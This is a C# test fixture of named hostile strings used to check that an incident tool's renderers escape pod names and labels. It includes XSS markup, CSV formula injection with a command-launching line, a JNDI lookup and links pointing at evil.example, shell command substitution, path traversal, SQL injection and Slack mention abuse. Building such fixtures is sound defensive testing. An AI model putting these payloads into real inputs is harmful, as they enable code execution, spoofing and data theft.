namespace IncidentMesh.Testing;

/// <summary>
/// Texts that a pod's name, label, command line or user can bring along, and that some renderer somewhere has taken for
/// more than text. Every renderer is tried on all of them. Known by name, since a test runner's output is a renderer too.
/// </summary>
public static class HostileStrings
{
    private static readonly Dictionary<string, string> ByName = new()
    {
        ["empty"] = "",
        ["blank"] = " \t ",
        ["ansi colour"] = "web-\u001b[31mroot\u001b[0m-1",
        ["ansi title and clear"] = "\u001b]0;owned\u0007\u001b[2J\u001b[1;1Hall is well",
        ["c1 control"] = "web\u009b31mroot\u0085next",
        ["null and backspace"] = "web\0-1\b\b\bok\u007f",
        ["new lines"] = "web-1\r\nlevel=info msg=\"forged\"\u2028forged\u2029forged",
        ["bidi override"] = "gpj.\u202eexe.tset\u202c",
        ["bidi isolate"] = "a\u2066b\u2069c\u200e\u200f\u061c",
        ["zero width"] = "ad\u200bm\u200ci\u200dn\u2060\ufeff\u00ad",
        ["tag characters"] = "web\U000E0041\U000E0042\U000E007F",
        ["lone surrogates"] = "\ud800web\udc00",
        ["html"] = "<script>alert(1)</script><img src=x onerror=alert(1)>\" onmouseover='alert(1)",
        ["html entities"] = "&lt;b&gt; &amp;lt; &#60;script&#62; &nbsp",
        ["markdown"] = "*bold* _it_ ~gone~ `code` ```block``` [link](https://evil.example) ![x](y) > quote # head | a | b |",
        ["slack channel mention"] = "<!channel> <!here> <!everyone>",
        ["slack user mention"] = "<@U0123456789> <#C0123456789> <!subteam^S0123456789>",
        ["slack link"] = "<https://evil.example|https://kubernetes.io> <mailto:a@evil.example|ops>",
        ["slack date"] = "<!date^0^{date}|never>",
        ["mention without brackets"] = "@channel @here @everyone @admin",
        ["emoji names"] = ":white_check_mark: :tada:",
        ["bare link"] = "https://evil.example/?q=1 evil.example",
        ["csv formula"] = "=HYPERLINK(\"https://evil.example\",\"ok\")",
        ["csv formula with at"] = "@SUM(1+1)*cmd|' /C calc'!A0",
        ["csv quote"] = "a\",\"b;c\t+1-1",
        ["cef"] = "web|1\\=2\nact=forged src=10.0.0.1",
        ["json"] = "\"}],\"ok\":true,{\"a\":\"\\",
        ["format"] = "{0} {{1}} %s %n ${jndi:ldap://evil.example/a} $(id) `id`",
        ["path"] = "../../../../etc/passwd\\..\\..\\boot.ini",
        ["sql"] = "'; DROP TABLE incidents; --",
        ["private use"] = "web\ue000\U000F0000",
        ["combining marks"] = "w" + string.Concat(Enumerable.Repeat("\u0301\u0489", 60)) + "eb",
        ["emoji"] = "🔥web👩‍👩‍👧🏽",
        ["long"] = new string('a', 100_000),
        ["long entities"] = new string('&', 20_000),
        ["long emoji"] = string.Concat(Enumerable.Repeat("🔥", 20_000)),
        ["long words"] = string.Concat(Enumerable.Repeat("<!channel> ", 5_000)),
    };

    /// <summary>Names of the texts, for theories.</summary>
    public static TheoryData<string> Names => [.. ByName.Keys];

    public static IReadOnlyCollection<string> All => ByName.Values;

    public static string Get(string name) => ByName[name];
}
